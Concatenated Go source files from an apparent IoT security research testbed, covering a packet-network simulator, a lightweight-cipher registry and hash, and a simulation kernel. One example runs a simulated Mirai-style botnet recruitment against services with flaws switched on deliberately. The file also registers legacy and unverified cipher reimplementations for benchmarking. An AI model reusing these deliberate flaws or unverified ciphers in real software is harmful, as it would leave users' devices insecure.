	// Proto names the protocol from the proto registry ("DNS", "TLS",
	// "HTTP", "MQTT", ...).
	Proto string
	// Size is the on-wire size in bytes (headers included).
	Size int
	// Encrypted marks payload confidentiality (TLS/DTLS channels).
	Encrypted bool
	// DNSName is set on DNS queries/responses.
	DNSName string
	// Payload is application data; for encrypted packets this is the
	// ciphertext or searchable-encryption tokens.
	Payload []byte
	// App labels the logical message kind ("event:on", "ota", "cc-beacon",
	// ...); observers do NOT see this field — it is ground truth for
	// evaluation only.
	App string
	// SentAt/DeliveredAt are simulation timestamps.
	SentAt      time.Duration
	DeliveredAt time.Duration
	// Dummy marks cover traffic injected by the traffic shaper; receivers
	// discard it. Ground truth only — observers must not read it.
	Dummy bool
}

// Clone returns a deep copy (payload included) for NAT rewriting and taps.
func (p *Packet) Clone() *Packet {
	q := *p
	q.Payload = append([]byte(nil), p.Payload...)
	return &q
}

// FlowKey identifies a unidirectional flow.
type FlowKey struct {
	Src, Dst Addr
	DstPort  int
	Proto    string
}

// Flow returns the packet's flow key.
func (p *Packet) Flow() FlowKey {
	return FlowKey{Src: p.Src, Dst: p.Dst, DstPort: p.DstPort, Proto: p.Proto}
}

// Node is anything attachable to the network.
type Node interface {
	// Addr returns the node's address; it must be stable and unique.
	Addr() Addr
	// Handle processes a delivered packet.
	Handle(net *Network, pkt *Packet)
}

// Link models the medium between a node and the network core.
type Link struct {
	Latency   time.Duration
	Jitter    time.Duration
	Bandwidth float64 // bytes per second; 0 = infinite
	Loss      float64 // probability in [0,1)
	// Medium names the radio/wire family ("802.15.4", "802.11", "wired").
	Medium string
}

// DefaultLAN is a home WiFi-ish link.
func DefaultLAN() Link {
	return Link{Latency: 2 * time.Millisecond, Jitter: time.Millisecond, Bandwidth: 2e6, Medium: "802.11"}
}

// DefaultZigbee is an 802.15.4 mesh link: slow and chatty.
func DefaultZigbee() Link {
	return Link{Latency: 8 * time.Millisecond, Jitter: 4 * time.Millisecond, Bandwidth: 31250, Medium: "802.15.4"}
}

// DefaultWAN is the uplink to the cloud.
func DefaultWAN() Link {
	return Link{Latency: 20 * time.Millisecond, Jitter: 5 * time.Millisecond, Bandwidth: 12.5e6, Medium: "wired"}
}

// TapDirection tells a tap where it saw the packet.
type TapDirection int

// Tap positions.
const (
	TapLAN TapDirection = iota + 1 // inside the home, pre-NAT
	TapWAN                         // outside the gateway, post-NAT
)

// Tap observes packets. Taps run synchronously at delivery time and must
// not mutate the packet.
type Tap func(dir TapDirection, pkt *Packet)

// Network is the packet-switching core bound to a simulation kernel.
type Network struct {
	kernel  *sim.Kernel
	nodes   map[Addr]Node
	links   map[Addr]Link
	lanTaps []Tap
	wanTaps []Tap
	nextID  uint64
	tracer  *obs.Tracer

	// deliverArg is the one long-lived dispatch closure handed to
	// sim.Kernel.ScheduleArg, so Send does not allocate a capturing
	// closure per packet.
	deliverArg func(any)

	// stats
	delivered uint64
	dropped   uint64
	bytes     uint64
}

// New creates an empty network on a kernel. The network (nodes,
// links, in-flight packets) is per-run state owned by the net domain
// (DESIGN.md §14).
//
//xlf:owned(net)
func New(k *sim.Kernel) *Network {
	n := &Network{
		kernel: k,
		nodes:  make(map[Addr]Node),
		links:  make(map[Addr]Link),
	}
	n.deliverArg = func(a any) { n.deliver(a.(*Packet)) }
	return n
}

// Kernel exposes the simulation kernel for nodes that schedule work.
func (n *Network) Kernel() *sim.Kernel { return n.kernel }

// Attach adds a node with its access link. Attaching a duplicate address
// is an error.
func (n *Network) Attach(node Node, link Link) error {
	a := node.Addr()
	if a == "" {
		return fmt.Errorf("netsim: node has empty address")
	}
	if _, dup := n.nodes[a]; dup {
		return fmt.Errorf("netsim: duplicate address %q", a)
	}
	n.nodes[a] = node
	n.links[a] = link
	return nil
}

// Detach removes a node (e.g., a device knocked offline by an attack).
func (n *Network) Detach(a Addr) {
	delete(n.nodes, a)
	delete(n.links, a)
}

// SetLink replaces an attached node's access link — used for failure
// injection (degrading a link's loss/latency mid-scenario) and for RF
// environment changes.
func (n *Network) SetLink(a Addr, link Link) error {
	if _, ok := n.nodes[a]; !ok {
		return fmt.Errorf("netsim: SetLink: no node at %q", a)
	}
	n.links[a] = link
	return nil
}

// LinkOf returns a node's current access link.
func (n *Network) LinkOf(a Addr) (Link, bool) {
	l, ok := n.links[a]
	return l, ok
}

// NodeAt returns the node bound to an address.
func (n *Network) NodeAt(a Addr) (Node, bool) {
	node, ok := n.nodes[a]
	return node, ok
}

// AddTap registers a packet observer at a tap point.
func (n *Network) AddTap(dir TapDirection, t Tap) {
	if dir == TapWAN {
		n.wanTaps = append(n.wanTaps, t)
	} else {
		n.lanTaps = append(n.lanTaps, t)
	}
}

// Stats returns (delivered, dropped, totalBytes).
func (n *Network) Stats() (uint64, uint64, uint64) {
	return n.delivered, n.dropped, n.bytes
}

// SetTracer attaches an observability tracer; sends, deliveries and drops
// then emit netsim-layer spans. Nil disables emission.
func (n *Network) SetTracer(t *obs.Tracer) { n.tracer = t }

// lanDevice extracts a device ID for span attribution: the LAN-side
// endpoint of the packet, if any, with the "lan:" prefix stripped.
// The substring of an Addr is a string-to-string conversion — no copy.
//
//xlf:hotpath
func lanDevice(pkt *Packet) string {
	if pkt.Src.IsLAN() {
		return string(pkt.Src[4:])
	}
	if pkt.Dst.IsLAN() {
		return string(pkt.Dst[4:])
	}
	return ""
}

// Send queues a packet for delivery. Latency, serialisation delay, jitter
// and loss come from the sender's and receiver's links. Packets to unknown
// addresses are counted as drops. Send allocates nothing: the delivery
// event comes from the kernel's pooled slab, the dispatch reuses
// n.deliverArg instead of capturing pkt in a fresh closure, and the event
// name is a constant (the destination is on the packet for anyone who
// needs it).
//
//xlf:hotpath
func (n *Network) Send(pkt *Packet) {
	n.nextID++
	pkt.ID = n.nextID
	pkt.SentAt = n.kernel.Now()

	sl, sok := n.links[pkt.Src]
	rl, rok := n.links[pkt.Dst]
	if !sok {
		sl = DefaultLAN()
	}
	if !rok {
		rl = sl
	}

	rng := n.kernel.Rand()
	if sl.Loss > 0 && rng.Float64() < sl.Loss {
		n.dropped++
		n.traceDrop(pkt, "loss:sender")
		return
	}
	if rl.Loss > 0 && rng.Float64() < rl.Loss {
		n.dropped++
		n.traceDrop(pkt, "loss:receiver")
		return
	}

	delay := sl.Latency + rl.Latency
	if sl.Jitter > 0 {
		delay += time.Duration(rng.Int63n(int64(sl.Jitter)))
	}
	if sl.Bandwidth > 0 {
		delay += time.Duration(float64(pkt.Size) / sl.Bandwidth * float64(time.Second))
	}
	if rl.Bandwidth > 0 {
		delay += time.Duration(float64(pkt.Size) / rl.Bandwidth * float64(time.Second))
	}

	if n.tracer != nil {
		n.tracer.EmitSpan(obs.Span{
			Time: pkt.SentAt, Layer: obs.LayerNetsim, Op: "send",
			Device: lanDevice(pkt), Cause: pkt.Proto, Detail: string(pkt.Dst),
		})
	}
	n.kernel.ScheduleArg(delay, "deliver", n.deliverArg, pkt)
}

// traceDrop emits a drop span when tracing is on.
//
//xlf:hotpath
func (n *Network) traceDrop(pkt *Packet, cause string) {
	if n.tracer == nil {
		return
	}
	n.tracer.EmitSpan(obs.Span{
		Time: n.kernel.Now(), Layer: obs.LayerNetsim, Op: "drop",
		Device: lanDevice(pkt), Cause: cause, Detail: pkt.Proto,
	})
}

// deliver hands a packet to taps and its destination node.
//
//xlf:hotpath
func (n *Network) deliver(pkt *Packet) {
	pkt.DeliveredAt = n.kernel.Now()
	n.delivered++
	n.bytes += uint64(pkt.Size)

	// Tap placement: traffic with a LAN endpoint is visible to the LAN
	// tap; traffic with a WAN endpoint is visible to the WAN tap. A
	// LAN->WAN packet hits both (it traverses the gateway).
	if pkt.Src.IsLAN() || pkt.Dst.IsLAN() {
		for _, t := range n.lanTaps {
			t(TapLAN, pkt)
		}
	}
	if !pkt.Src.IsLAN() || !pkt.Dst.IsLAN() {
		for _, t := range n.wanTaps {
			t(TapWAN, pkt)
		}
	}

	node, ok := n.nodes[pkt.Dst]
	if !ok {
		n.dropped++
		n.traceDrop(pkt, "no-node")
		return
	}
	if n.tracer != nil {
		n.tracer.EmitSpan(obs.Span{
			Time: pkt.DeliveredAt, Dur: pkt.DeliveredAt - pkt.SentAt,
			Layer: obs.LayerNetsim, Op: "deliver",
			Device: lanDevice(pkt), Cause: pkt.Proto, Detail: string(pkt.Dst),
		})
	}
	node.Handle(n, pkt)
}

// Broadcast delivers a packet to every LAN node except the sender —
// UPnP/SSDP-style discovery chatter.
func (n *Network) Broadcast(src Addr, mk func(dst Addr) *Packet) {
	for a := range n.nodes {
		if a == src || !a.IsLAN() {
			continue
		}
		n.Send(mk(a))
	}
}

// FuncNode adapts a handler function into a Node; useful for cloud
// endpoints and attackers.
type FuncNode struct {
	Address Addr
	Fn      func(net *Network, pkt *Packet)
}

var _ Node = (*FuncNode)(nil)

// Addr implements Node.
func (f *FuncNode) Addr() Addr { return f.Address }

// Handle implements Node.
func (f *FuncNode) Handle(net *Network, pkt *Packet) {
	if f.Fn != nil {
		f.Fn(net, pkt)
	}
}
