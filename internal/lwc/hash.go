package lwc

import (
	"encoding/binary"
	"hash"
)

// DMPresent is a lightweight 64-bit hash in the DM-PRESENT-128 style
// (Bogdanov et al.): a Davies-Meyer compression function built from
// PRESENT-128, iterated Merkle-Damgard with length-strengthening padding.
// It is what Table III's "lightweight hash functions" category refers to;
// XLF's device layer uses it for firmware fingerprints on devices too
// small for SHA-256.
//
// The 64-bit output targets integrity tagging, not collision resistance
// against funded adversaries — exactly the trade-off NIST IR 8114
// describes for constrained devices.
type DMPresent struct {
	h   uint64
	len uint64
	buf []byte
}

var _ hash.Hash = (*DMPresent)(nil)

// dmPresentIV is the initial chaining value (the hex expansion of pi).
const dmPresentIV uint64 = 0x243F6A8885A308D3

// NewDMPresent returns a new lightweight 64-bit hash.
func NewDMPresent() *DMPresent {
	d := &DMPresent{}
	d.Reset()
	return d
}

func (d *DMPresent) Reset() {
	d.h = dmPresentIV
	d.len = 0
	d.buf = d.buf[:0]
}

func (d *DMPresent) Size() int      { return 8 }
func (d *DMPresent) BlockSize() int { return 8 }

// compress absorbs one 8-byte message block: H' = E_{H || M}(M) xor M.
func (d *DMPresent) compress(block []byte) {
	var key [16]byte
	binary.BigEndian.PutUint64(key[0:], d.h)
	copy(key[8:], block)
	blk := newPresent128(key[:])
	var out [8]byte
	blk.Encrypt(out[:], block)
	d.h = binary.BigEndian.Uint64(out[:]) ^ binary.BigEndian.Uint64(block)
}

func (d *DMPresent) Write(p []byte) (int, error) {
	d.len += uint64(len(p))
	d.buf = append(d.buf, p...)
	for len(d.buf) >= 8 {
		d.compress(d.buf[:8])
		d.buf = d.buf[8:]
	}
	return len(p), nil
}

// Sum appends the 8-byte digest to b without disturbing the running state.
func (d *DMPresent) Sum(b []byte) []byte {
	// Clone state, then pad: 0x80, zeros, 64-bit length.
	clone := &DMPresent{h: d.h, len: d.len}
	clone.buf = append(clone.buf, d.buf...)
	clone.buf = append(clone.buf, 0x80)
	for len(clone.buf)%8 != 0 {
		clone.buf = append(clone.buf, 0)
	}
	var lenBlock [8]byte
	binary.BigEndian.PutUint64(lenBlock[:], d.len*8)
	clone.buf = append(clone.buf, lenBlock[:]...)
	for len(clone.buf) >= 8 {
		clone.compress(clone.buf[:8])
		clone.buf = clone.buf[8:]
	}
	var out [8]byte
	binary.BigEndian.PutUint64(out[:], clone.h)
	return append(b, out[:]...)
}

// Sum64 returns the digest of data as a uint64 in one call.
func Sum64(data []byte) uint64 {
	d := NewDMPresent()
	d.Write(data) //xlf:allow-droperr hash.Hash.Write never returns an error
	var out [8]byte
	d.Sum(out[:0])
	return binary.BigEndian.Uint64(out[:])
}
