package lwc

import (
	"crypto/aes"
	"crypto/cipher"
)

// newAES wraps the standard library AES implementation so that AES appears
// in the Table III registry alongside the lightweight designs. AES is the
// conventional baseline the table compares the lightweight ciphers against.
func newAES(key []byte) (cipher.Block, error) {
	switch len(key) {
	case 16, 24, 32:
		return aes.NewCipher(key)
	default:
		return nil, KeySizeError{Algorithm: "AES", Len: len(key)}
	}
}
