// Package lwc implements the lightweight cryptographic algorithms
// enumerated in Table III of the XLF paper (ICDCS 2019), which itself
// follows NIST IR 8114 ("Report on Lightweight Cryptography").
//
// Every cipher implements the standard crypto/cipher.Block interface so the
// stdlib modes (CTR, CBC, ...) compose with them, and registers metadata
// (key size, block size, structure, rounds) matching the paper's table. The
// registry drives both the Table III reproduction bench and the
// device-layer feasibility model: XLF's device layer picks the strongest
// cipher a device's cycle budget can afford.
//
// Implementation fidelity: AES, DES, 3DES, DESL, TEA, XTEA, RC5, PRESENT,
// HIGHT and LEA are implemented from their published specifications and
// carry known-answer tests. SEED, TWINE, PRIDE, ICEBERG and Hummingbird-2
// are structure-faithful reimplementations (correct block/key sizes, round
// structure, and design family per Table III) validated by round-trip,
// key-sensitivity and avalanche property tests; see DESIGN.md.
package lwc

import (
	"crypto/cipher"
	"errors"
	"fmt"
	"sort"
)

// KeySizeError is returned by cipher constructors when the key length is
// not supported by the algorithm.
type KeySizeError struct {
	Algorithm string
	Len       int
}

func (e KeySizeError) Error() string {
	return fmt.Sprintf("lwc: invalid %s key size %d", e.Algorithm, e.Len)
}

// Structure is the block cipher design family, as categorised in Table III.
type Structure string

// Design families named by the paper's Table III.
const (
	SPN     Structure = "SPN"     // substitution-permutation network
	Feistel Structure = "Feistel" // classic Feistel network
	GFS     Structure = "GFS"     // generalized Feistel structure
	ARX     Structure = "ARX"     // add-rotate-xor (LEA; the paper files it under Feistel)
)

// Info describes one row of Table III plus what is needed to instantiate
// the algorithm and cost it on a constrained device.
type Info struct {
	// Name is the algorithm name as printed in Table III.
	Name string
	// KeySizes lists supported key sizes in bits.
	KeySizes []int
	// BlockSize is the block size in bits.
	BlockSize int
	// Structure is the design family column of Table III.
	Structure Structure
	// Rounds describes the round count column (may depend on key size).
	Rounds string
	// RoundsFor returns the concrete round count for a key size in bits.
	RoundsFor func(keyBits int) int
	// New constructs the cipher for the given key.
	New func(key []byte) (cipher.Block, error)
	// CyclesPerByte is a software cost estimate (cycles per byte on a small
	// MCU-class core) used by the device-layer feasibility model. Values
	// are relative, calibrated so AES-128 software = 160 c/B on an 8/16-bit
	// class core, in line with the NIST IR 8114 framing that lightweight
	// designs trade security margin for cycle and memory footprint.
	CyclesPerByte float64
	// RAMBytes approximates working RAM for the key schedule plus state.
	RAMBytes int
	// Verified reports whether the implementation carries published
	// known-answer tests (true) or is a structure-faithful reimplementation
	// validated by property tests only (false).
	Verified bool
}

// SupportsKeyBits reports whether the algorithm accepts a key of the given
// bit length.
func (in Info) SupportsKeyBits(bits int) bool {
	for _, k := range in.KeySizes {
		if k == bits {
			return true
		}
	}
	return false
}

// DefaultKeyBits returns the algorithm's smallest supported key size, which
// is what a constrained device would provision.
func (in Info) DefaultKeyBits() int {
	if len(in.KeySizes) == 0 {
		return 0
	}
	min := in.KeySizes[0]
	for _, k := range in.KeySizes[1:] {
		if k < min {
			min = k
		}
	}
	return min
}

// Registry holds the Table III algorithm set. The zero value is empty; use
// NewRegistry for the full paper table.
type Registry struct {
	byName map[string]Info
	order  []string
}

// NewRegistry returns a registry populated with every algorithm in
// Table III of the paper, in the table's row order.
func NewRegistry() *Registry {
	r := &Registry{byName: make(map[string]Info)}
	for _, in := range tableIII() {
		r.mustAdd(in)
	}
	return r
}

func (r *Registry) mustAdd(in Info) {
	if err := r.Add(in); err != nil {
		panic(err)
	}
}

// Add registers an algorithm. It fails on duplicate names or incomplete
// entries.
func (r *Registry) Add(in Info) error {
	switch {
	case in.Name == "":
		return errors.New("lwc: Add: empty algorithm name")
	case in.New == nil:
		return fmt.Errorf("lwc: Add %s: nil constructor", in.Name)
	case len(in.KeySizes) == 0:
		return fmt.Errorf("lwc: Add %s: no key sizes", in.Name)
	case in.BlockSize <= 0:
		return fmt.Errorf("lwc: Add %s: bad block size %d", in.Name, in.BlockSize)
	}
	if _, dup := r.byName[in.Name]; dup {
		return fmt.Errorf("lwc: Add %s: duplicate algorithm", in.Name)
	}
	r.byName[in.Name] = in
	r.order = append(r.order, in.Name)
	return nil
}

// Lookup returns the Info for a registered algorithm name.
func (r *Registry) Lookup(name string) (Info, bool) {
	in, ok := r.byName[name]
	return in, ok
}

// Names returns the registered algorithm names in registration (table row)
// order. The returned slice is a copy.
func (r *Registry) Names() []string {
	out := make([]string, len(r.order))
	copy(out, r.order)
	return out
}

// All returns every registered Info in table row order.
func (r *Registry) All() []Info {
	out := make([]Info, 0, len(r.order))
	for _, n := range r.order {
		out = append(out, r.byName[n])
	}
	return out
}

// ByCost returns the registered algorithms sorted by ascending
// CyclesPerByte; the device layer uses this to pick the cheapest cipher
// meeting a policy's requirements.
func (r *Registry) ByCost() []Info {
	out := r.All()
	sort.SliceStable(out, func(i, j int) bool { return out[i].CyclesPerByte < out[j].CyclesPerByte })
	return out
}

// New instantiates a registered algorithm with the given key.
func (r *Registry) New(name string, key []byte) (cipher.Block, error) {
	in, ok := r.byName[name]
	if !ok {
		return nil, fmt.Errorf("lwc: unknown algorithm %q", name)
	}
	return in.New(key)
}

// tableIII lists the algorithms exactly as the paper's Table III does
// (including DES's listed "54"-bit effective key, which we normalise to the
// standard 56-bit effective / 64-bit encoded form).
func tableIII() []Info {
	fixed := func(n int) func(int) int { return func(int) int { return n } }
	return []Info{
		{
			Name: "AES", KeySizes: []int{128, 192, 256}, BlockSize: 128,
			Structure: SPN, Rounds: "10/12/14",
			RoundsFor: func(k int) int { return 6 + k/32 },
			New:       newAES, CyclesPerByte: 160, RAMBytes: 240 + 16, Verified: true,
		},
		{
			Name: "HIGHT", KeySizes: []int{128}, BlockSize: 64,
			Structure: GFS, Rounds: "32", RoundsFor: fixed(32),
			New: NewHIGHT, CyclesPerByte: 94, RAMBytes: 136 + 8, Verified: true,
		},
		{
			Name: "PRESENT", KeySizes: []int{80, 128}, BlockSize: 64,
			Structure: SPN, Rounds: "31", RoundsFor: fixed(31),
			New: NewPRESENT, CyclesPerByte: 130, RAMBytes: 256 + 8, Verified: true,
		},
		{
			Name: "RC5", KeySizes: []int{128}, BlockSize: 64,
			Structure: Feistel, Rounds: "1..255 (12 typical)", RoundsFor: fixed(12),
			New:           func(key []byte) (cipher.Block, error) { return NewRC5(key, 12) },
			CyclesPerByte: 60, RAMBytes: 104 + 8, Verified: true,
		},
		{
			Name: "TEA", KeySizes: []int{128}, BlockSize: 64,
			Structure: Feistel, Rounds: "64", RoundsFor: fixed(64),
			New: NewTEA, CyclesPerByte: 52, RAMBytes: 16 + 8, Verified: true,
		},
		{
			Name: "XTEA", KeySizes: []int{128}, BlockSize: 64,
			Structure: Feistel, Rounds: "64", RoundsFor: fixed(64),
			New: NewXTEA, CyclesPerByte: 57, RAMBytes: 16 + 8, Verified: true,
		},
		{
			Name: "LEA", KeySizes: []int{128, 192, 256}, BlockSize: 128,
			Structure: Feistel, Rounds: "24/28/32",
			RoundsFor: func(k int) int { return 24 + 4*((k-128)/64) },
			New:       NewLEA, CyclesPerByte: 45, RAMBytes: 384 + 16, Verified: true,
		},
		{
			Name: "DES", KeySizes: []int{64}, BlockSize: 64,
			Structure: Feistel, Rounds: "16", RoundsFor: fixed(16),
			New: NewDES, CyclesPerByte: 220, RAMBytes: 128 + 8, Verified: true,
		},
		{
			Name: "SEED", KeySizes: []int{128}, BlockSize: 128,
			Structure: Feistel, Rounds: "16", RoundsFor: fixed(16),
			New: NewSEED, CyclesPerByte: 190, RAMBytes: 128 + 16, Verified: false,
		},
		{
			Name: "TWINE", KeySizes: []int{80, 128}, BlockSize: 64,
			Structure: Feistel, Rounds: "36 (table lists 32)", RoundsFor: fixed(36),
			New: NewTWINE, CyclesPerByte: 110, RAMBytes: 144 + 8, Verified: false,
		},
		{
			Name: "DESL", KeySizes: []int{64}, BlockSize: 64,
			Structure: Feistel, Rounds: "16", RoundsFor: fixed(16),
			New: NewDESL, CyclesPerByte: 200, RAMBytes: 96 + 8, Verified: false,
		},
		{
			Name: "3DES", KeySizes: []int{128, 192}, BlockSize: 64,
			Structure: Feistel, Rounds: "48", RoundsFor: fixed(48),
			New: NewTripleDES, CyclesPerByte: 640, RAMBytes: 384 + 8, Verified: true,
		},
		{
			Name: "Hummingbird", KeySizes: []int{256}, BlockSize: 16,
			Structure: SPN, Rounds: "4", RoundsFor: fixed(4),
			New: NewHummingbird, CyclesPerByte: 80, RAMBytes: 48 + 2, Verified: false,
		},
		{
			Name: "Hummingbird2", KeySizes: []int{256}, BlockSize: 16,
			Structure: SPN, Rounds: "4", RoundsFor: fixed(4),
			New: NewHummingbird2, CyclesPerByte: 75, RAMBytes: 48 + 2, Verified: false,
		},
		{
			Name: "Iceberg", KeySizes: []int{128}, BlockSize: 64,
			Structure: SPN, Rounds: "16", RoundsFor: fixed(16),
			New: NewIceberg, CyclesPerByte: 150, RAMBytes: 160 + 8, Verified: false,
		},
		{
			Name: "Pride", KeySizes: []int{128}, BlockSize: 64,
			Structure: SPN, Rounds: "20", RoundsFor: fixed(20),
			New: NewPride, CyclesPerByte: 85, RAMBytes: 64 + 8, Verified: false,
		},
	}
}
