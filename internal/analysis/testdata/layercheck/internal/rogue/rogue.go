// Package rogue is a layercheck fixture: it does not appear in the layer
// table at all, which is itself a finding.
package rogue // want "\[layercheck\] package example.com/m/internal/rogue is not declared in the layer table"
