package xlf_test

import (
	"fmt"
	"time"

	"xlf"
	"xlf/internal/attack"
	"xlf/internal/service"
)

// Example demonstrates the protect-attack-detect loop: a Mirai-style
// operator recruits the telnet-exposed camera, and the XLF Core correlates
// the network-layer evidence into containment. Runs are deterministic per
// seed, so the output below is exact.
func Example() {
	sys, err := xlf.New(xlf.Options{
		Seed:  1,
		Flaws: service.Flaws{CoarseGrants: true, UnsignedEvents: true, OpenRedirectOTA: true},
	})
	if err != nil {
		fmt.Println("error:", err)
		return
	}

	res := (&attack.MiraiRecruit{CNC: "wan:cnc", BeaconEvery: 10 * time.Second}).Execute(sys.Home.AttackEnv())
	fmt.Println(res)

	if err := sys.Home.Run(time.Minute); err != nil {
		fmt.Println("error:", err)
		return
	}
	for _, a := range sys.Core.AlertsFor("cam-1") {
		fmt.Printf("alert: sev=%s action=%q\n", a.Severity, a.Action)
	}
	fmt.Println("camera quarantined:", sys.NAC.Blocked("lan:cam-1"))

	// Output:
	// mirai-recruitment: SUCCESS — recruited 1 devices into botnet
	// alert: sev=warning action=""
	// alert: sev=critical action="quarantined"
	// camera quarantined: true
}
