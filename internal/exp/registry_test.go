package exp

import "testing"

// TestRegistryShape pins the registry as the single source of truth: one
// entry per report section, report order, resolvable by ID, table and
// figure number.
func TestRegistryShape(t *testing.T) {
	want := []string{"T1", "T2", "T3", "F1", "F2", "F3", "F4", "E1", "E2", "E3", "E4", "E5", "E6", "E7", "E8", "E9"}
	reg := Registry()
	if len(reg) != len(want) {
		t.Fatalf("registry has %d entries, want %d", len(reg), len(want))
	}
	for i, id := range want {
		e := reg[i]
		if e.ID != id {
			t.Errorf("entry %d is %s, want %s", i, e.ID, id)
		}
		if e.Title == "" || e.Run == nil {
			t.Errorf("%s: incomplete descriptor %+v", id, e)
		}
		got, ok := Lookup(id)
		if !ok || got.ID != id {
			t.Errorf("Lookup(%q) failed", id)
		}
	}
	for n := 1; n <= 3; n++ {
		if e, ok := ByTable(n); !ok || e.Kind() != "table" {
			t.Errorf("ByTable(%d) failed", n)
		}
	}
	for n := 1; n <= 4; n++ {
		if e, ok := ByFigure(n); !ok || e.Kind() != "figure" {
			t.Errorf("ByFigure(%d) failed", n)
		}
	}
	if _, ok := ByTable(9); ok {
		t.Error("ByTable(9) resolved")
	}
	if _, ok := ByFigure(9); ok {
		t.Error("ByFigure(9) resolved")
	}
	if _, ok := Lookup("E99"); ok {
		t.Error("Lookup(E99) resolved")
	}
	if e, ok := Lookup(" e4 "); !ok || e.ID != "E4" {
		t.Error("Lookup should be case- and space-insensitive")
	}
	if k := mustLookup(t, "E4").Kind(); k != "experiment" {
		t.Errorf("E4 kind = %q", k)
	}
}

func mustLookup(t *testing.T, id string) Experiment {
	t.Helper()
	e, ok := Lookup(id)
	if !ok {
		t.Fatalf("registry lost %s", id)
	}
	return e
}

// TestRegistryRunsMatchDeprecatedWrappers keeps the one-release
// compatibility promise: the deprecated twin functions and the registry
// entries must render the same bytes for the same env.
func TestRegistryRunsMatchDeprecatedWrappers(t *testing.T) {
	cases := []struct {
		id  string
		old func(*Env) *Result
	}{
		{"T3", Table3Env},
		{"E3", E3AuthEnv},
		{"E4", E4DPIEnv},
		{"E5", E5BehaviorEnv},
		{"E6", E6LearningEnv},
	}
	for _, tc := range cases {
		tc := tc
		t.Run(tc.id, func(t *testing.T) {
			viaRegistry := mustLookup(t, tc.id).Run(NewStepEnv(4)).String()
			viaWrapper := tc.old(NewStepEnv(4)).String()
			if viaRegistry != viaWrapper {
				t.Errorf("%s: registry and deprecated wrapper disagree", tc.id)
			}
		})
	}
}

// TestResultIDsMatchRegistry asserts every entry renders a Result carrying
// its own ID and title, which the artifact layer keys on.
func TestResultIDsMatchRegistry(t *testing.T) {
	if testing.Short() {
		t.Skip("full registry sweep in -short mode")
	}
	for _, e := range Registry() {
		r := e.Run(NewStepEnv(1))
		if r.ID != e.ID {
			t.Errorf("%s rendered result ID %q", e.ID, r.ID)
		}
		if r.Title != e.Title {
			t.Errorf("%s rendered title %q, registry says %q", e.ID, r.Title, e.Title)
		}
	}
}
