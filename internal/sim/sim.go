// Package sim provides a deterministic discrete-event simulation kernel.
//
// Every time-dependent component of the XLF testbed (devices, links, DNS,
// clouds, attackers) runs on a sim.Kernel rather than the wall clock, so a
// whole smart-home scenario — including attacks and detections — replays
// bit-identically from a seed. Time is modeled as a time.Duration offset
// from the simulation epoch.
//
// The kernel is built for scale (DESIGN.md §12): events live in a pooled
// slab indexed by a hierarchical timer wheel, so the schedule→dispatch→
// recycle cycle is allocation-free in steady state and a single kernel
// sustains millions of concurrent timers. Schedule calls hand back a
// value-type Handle whose Cancel/Canceled are generation-checked against
// the pool slot; holding a pointer into the pool would be unsound once
// the slot is recycled.
package sim

import (
	"errors"
	"fmt"
	"math/rand"
	"time"

	"xlf/internal/obs"
)

// Handle identifies a scheduled event without pointing into the event
// pool. It is a small value type: copy it freely, keep it in structs,
// compare it against the zero Handle (which refers to nothing and is
// safe to Cancel). Once the event has executed or been recycled the
// handle goes stale — Cancel becomes a no-op and Canceled reports false
// — enforced by a per-slot generation counter, so a stale handle can
// never touch a recycled slot's new occupant.
type Handle struct {
	k    *Kernel
	slot int32
	gen  uint32
}

// Cancel marks the event so the kernel skips it when its time arrives.
// Canceling an already-executed event, or the zero Handle, is a no-op.
func (h Handle) Cancel() {
	if h.k == nil || int(h.slot) >= len(h.k.slots) {
		return
	}
	e := &h.k.slots[h.slot]
	if e.gen != h.gen {
		return
	}
	e.canceled = true
}

// Canceled reports whether Cancel has been called on the event the
// handle refers to. It reports false once the event has executed or
// been recycled (the handle is stale), and for the zero Handle.
func (h Handle) Canceled() bool {
	if h.k == nil || int(h.slot) >= len(h.k.slots) {
		return false
	}
	e := &h.k.slots[h.slot]
	return e.gen == h.gen && e.canceled
}

// At returns the event's scheduled time. ok is false when the handle is
// stale (the event already executed or was recycled) or zero.
func (h Handle) At() (at time.Duration, ok bool) {
	if h.k == nil || int(h.slot) >= len(h.k.slots) {
		return 0, false
	}
	e := &h.k.slots[h.slot]
	if e.gen != h.gen {
		return 0, false
	}
	return e.at, true
}

// ErrStopped is returned by Run when StopNow interrupted the event loop.
var ErrStopped = errors.New("sim: kernel stopped")

// Kernel is a single-threaded discrete-event scheduler with its own seeded
// randomness source. It is not safe for concurrent use; the simulation
// model is strictly sequential, which is what makes runs reproducible.
type Kernel struct {
	now     time.Duration
	seq     uint64
	rng     *rand.Rand
	stopped bool
	ran     uint64
	pending int
	tracer  *obs.Tracer
	wheel
}

// NewKernel returns a kernel whose random source is seeded with seed.
// The same seed and the same scheduling sequence yield identical runs.
// The kernel (and every RNG stream drawn from it) is per-shard state:
// it must stay confined to the run that created it (DESIGN.md §14).
//
//xlf:owned(sim)
func NewKernel(seed int64) *Kernel {
	k := &Kernel{rng: rand.New(rand.NewSource(seed))}
	k.wheel.init()
	return k
}

// Now returns the current simulated time as an offset from the epoch.
func (k *Kernel) Now() time.Duration { return k.now }

// Rand returns the kernel's deterministic random source. Components must
// draw all randomness from here, never from package-level rand or crypto
// rand, so that scenarios replay exactly.
func (k *Kernel) Rand() *rand.Rand { return k.rng }

// Pending returns the number of events waiting in the queue, including
// canceled events that have not yet been discarded.
func (k *Kernel) Pending() int { return k.pending }

// Processed returns how many events have executed since the kernel was
// created.
func (k *Kernel) Processed() uint64 { return k.ran }

// SetTracer attaches an observability tracer; every dispatched event then
// emits a sim-layer span. A nil tracer (the default) disables emission at
// the cost of one branch per event.
func (k *Kernel) SetTracer(t *obs.Tracer) { k.tracer = t }

// Schedule queues fn to run after delay (relative to Now). A negative delay
// is treated as zero. The returned Handle may be used to cancel the call.
func (k *Kernel) Schedule(delay time.Duration, name string, fn func()) Handle {
	if delay < 0 {
		delay = 0
	}
	return k.ScheduleAt(k.now+delay, name, fn)
}

// ScheduleAt queues fn to run at absolute simulated time at. Times in the
// past are clamped to Now.
func (k *Kernel) ScheduleAt(at time.Duration, name string, fn func()) Handle {
	if fn == nil {
		panic("sim: ScheduleAt called with nil fn")
	}
	if at < k.now {
		at = k.now
	}
	k.seq++
	s := k.alloc()
	e := &k.slots[s]
	e.at, e.name, e.fn, e.seq = at, name, fn, k.seq
	k.enqueue(s)
	k.pending++
	return Handle{k: k, slot: s, gen: e.gen}
}

// ScheduleArg queues fn(arg) to run after delay. It is the zero-closure
// variant of Schedule for per-packet/per-event hot paths: the caller keeps
